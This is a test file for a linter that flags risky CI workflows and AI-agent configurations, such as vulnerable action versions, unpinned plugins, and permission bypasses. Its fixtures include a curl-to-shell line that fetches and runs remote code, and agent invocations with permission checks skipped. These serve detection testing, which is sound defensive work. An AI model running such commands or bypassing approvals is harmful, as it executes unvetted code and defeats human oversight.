import { describe, expect, it } from 'vitest';
import bad from '../../src/facts/bad-packages.json' with { type: 'json' };
import { lintFiles, statedFindings } from '../rules/lint-files.js';
import { BASE, CLAUDE, GEMINI, workflow } from './workflow-shapes.js';

const FILE = '.github/workflows/agent.yml';

/** The version before another one, as its tag: `1.0.74` gives `v1.0.73`. */
const previous = (version: string): string =>
  `v${version.replace(/\d+$/, (last) => String(Number(last) - 1))}`;

describe('a version of an action with a known hole', () => {
  const actions = bad.packages.flatMap(({ from, name, before: bound, words, reference }) =>
    from === 'github-actions' && bound !== undefined
      ? [{ name, bound, says: `${words} (${reference})` }]
      : [],
  );

  it.each(actions)('is reported: $name before $bound', async ({ name, bound, says }) => {
    const lint = async (ref: string) =>
      statedFindings(
        await lintFiles({ [FILE]: workflow({ on: 'workflow_dispatch', uses: `${name}@${ref}` }) }),
        'mcp/known-bad-version',
      );
    expect(await lint(previous(bound))).toEqual([
      `7:15 error The workflow uses \`${name}@${previous(bound)}\`, which ${says}.`,
    ]);
    const newest = actions.findLast((one) => one.name === name)?.bound ?? bound;
    expect(await lint(`v${newest}`)).toEqual([]);
  });
});

describe('plugins and extensions that an action installs', () => {
  it.each([
    [CLAUDE, 'plugin_marketplaces', 'https://github.com/a/b.git', './plugins'],
    [BASE, 'plugin_marketplaces', 'https://github.com/a/b.git', './plugins'],
    [GEMINI, 'extensions', `'["https://github.com/a/b"]'`, `'["./extension"]'`],
  ])('are reported where they come from an address: %s with `%s`', async (uses, input, address, folder) => {
    const lint = async (value: string) =>
      statedFindings(
        await lintFiles({
          [FILE]: workflow({ on: 'push', uses, with: { prompt: 'Say.', [input]: value } }),
        }),
        'mcp/unpinned-package',
      );
    expect(await lint(address)).toEqual([
      expect.stringMatching(
        /^10:\d+ info (?:Claude Code|Gemini CLI) installs plugins of the newest commit of an address/,
      ),
    ]);
    expect(await lint(folder)).toEqual([]);
  });
});

describe('a workflow that is made to take long', () => {
  const rulesOf = async (files: Record<string, string>) =>
    (await lintFiles(files)).findings.map(
      ({ rule, file, range }) => `${rule} ${file}:${String(range.start.line)}:${String(range.start.column)}`,
    );

  it('has 2,000 steps that run an agent: the first 200 are read, and it is said of the others', async () => {
    const run = 'run: claude -p "x" --dangerously-skip-permissions';
    const text = workflow({ run: 'date', after: Array.from({ length: 2_000 }, () => run) });
    const { findings, unresolved } = await lintFiles({ [FILE]: text });
    expect(findings.filter(({ rule }) => rule === 'scope/remote-script')).toHaveLength(200);
    expect(unresolved.map(({ what, why, at }) => `${String(at.range().start.line)} ${what}: ${why}`)).toEqual(
      ['208 agents of one after the first 200 of the workflow: no more are read'],
    );
  });

  it.each([
    [FILE, 'jobs of the workflow', (jobs: string) => `on: push\njobs:\n${jobs.replaceAll(/^/gm, '  ')}`, 203],
    ['.gitlab-ci.yml', 'jobs of the pipeline', (jobs: string) => jobs, 401],
  ])('has more jobs than are read, which is said: %s', async (file, what, textOf, line) => {
    const job = (name: string) =>
      file === FILE
        ? `${name}: { runs-on: x, steps: [{ run: claude -p x --allowedTools Read }] }`
        : `${name}:\n  script: claude -p x --allowedTools Read`;
    const lint = async (count: number) =>
      (
        await lintFiles({
          [file]: textOf(Array.from({ length: count }, (_, at) => job(`j${String(at)}`)).join('\n')),
        })
      ).unresolved
        .filter((one) => one.what.startsWith('jobs after'))
        .map(({ what: said, at }) => `${String(at.range().start.line)} ${said}`);
    expect(await lint(201)).toEqual([`${String(line)} ${what.replace('jobs', 'jobs after the first 200')}`]);
    expect(await lint(200)).toEqual([]);
  });

  it.each(['${{ ', '${{ github.event.issue.titl ', "${{ '"])(
    'has 20,000 beginnings of expressions, in one pass: %s',
    async (beginning) => {
      const lint = async (text: string) => {
        const prompt = { prompt: JSON.stringify(text), claude_args: '--allowedTools Read' };
        const { findings, unresolved } = await lintFiles({ [FILE]: workflow({ uses: BASE, with: prompt }) });
        return [
          ...findings.map(({ severity, rule }) => `${severity} ${rule}`),
          ...unresolved.map(({ what }) => what),
        ];
      };
      expect(await lint(beginning.repeat(20_000))).toEqual(['the step of Claude Code']);
      expect(await lint('${{ github.event.issue.title }}')).toEqual(['warning scope/remote-script']);
    },
  );

  it.each([
    ['commands', (list: string) => `tools: { bash: [${list}] }`, 'git push'],
    [
      'outputs',
      (list: string) => `safe-outputs: { jobs: { a: { steps: [${list}] } } }`,
      '{ run: "curl -s https://x.example.com/a | sh" }',
    ],
  ])('has ten thousand %s in an agentic workflow, and each is read', async (_, matter, bad) => {
    const lint = async (last: string) => {
      const list = [
        ...Array.from({ length: 10_000 }, () => (bad.startsWith('{') ? '{ run: date }' : 'ls')),
        last,
      ].join(', ');
      return rulesOf({ '.github/workflows/a.md': `---\non: push\n${matter(list)}\n---\nDo it.\n` });
    };
    expect(await lint(bad)).toHaveLength(1);
    expect(await lint(bad.startsWith('{') ? '{ run: date }' : 'ls')).toEqual([]);
  });

  it.each<[string, string, Record<string, string>, readonly string[]]>([
    [
      'scripts that run each other',
      'bash a.sh',
      { 'a.sh': 'bash b.sh\n', 'b.sh': 'bash a.sh\nclaude -p x --dangerously-skip-permissions\n' },
      ['approval/auto-approved b.sh:2:13'],
    ],
    [
      'a script that reads itself',
      'bash a.sh',
      { 'a.sh': '. ./a.sh\ngemini --yolo -p x\n' },
      [`scope/remote-script ${FILE}:7:14`, 'approval/auto-approved a.sh:2:8'],
    ],
    [
      'scripts of a package',
      'npm run a',
      { 'package.json': '{ "scripts": { "a": "npm run b", "b": "npm run a" } }' },
      [],
    ],
    ['a Makefile', 'make a', { Makefile: 'a: b\n\tmake b\nb: a\n\tmake a\n' }, []],
  ])('is read to an end: %s', async (_, run, beside, expected) => {
    expect(await rulesOf({ [FILE]: workflow({ run }), ...beside })).toEqual(expected);
  });

  it('is read to an end where an action and a workflow use themselves', async () => {
    const action = 'runs:\n  using: composite\n  steps:\n    - uses: ./.github/actions/a\n';
    const files = { '.github/actions/a/action.yml': action };
    expect(await rulesOf({ [FILE]: workflow({ uses: './.github/actions/a' }), ...files })).toEqual([]);
    const itself = `on: { issues: {}, workflow_call: {} }\njobs:\n  a:\n    uses: ./${FILE}\n  b:\n    runs-on: x\n    steps:\n      - run: gemini --yolo -p x\n`;
    expect(await rulesOf({ [FILE]: itself })).toEqual([
      `scope/remote-script ${FILE}:4:11`,
      `scope/remote-script ${FILE}:8:14`,
    ]);
  });
});

describe('front matter without an end', () => {
  it.each([
    ['.github/workflows/a.md', 'on: issues\nroles: all\n'],
    ['.claude/agents/a.md', 'name: a\ndescription: d\npermissionMode: bypassPermissions\n'],
    ['.claude/skills/a/SKILL.md', 'name: a\nallowed-tools: Bash\n'],
    ['.claude/commands/a.md', 'allowed-tools: Bash\n'],
    ['.factory/droids/a.md', 'name: a\ntools: all\n'],
  ])('is a fault at its place, and its twin is read: %s', async (file, matter) => {
    const lint = async (end: string) =>
      (await lintFiles({ [file]: `---\n${matter}${end}Do it.\n` })).findings
        .filter(({ rule }) => rule === 'file/syntax')
        .map(({ range, message }) => `${String(range.start.line)}:${String(range.start.column)} ${message}`);
    expect(await lint('')).toEqual([
      `1:1 \`${file.slice(file.lastIndexOf('/') + 1)}\` does not parse: the front matter that begins here has no closing \`---\`.`,
    ]);
    expect(await lint('---\n')).toEqual([]);
  });
});
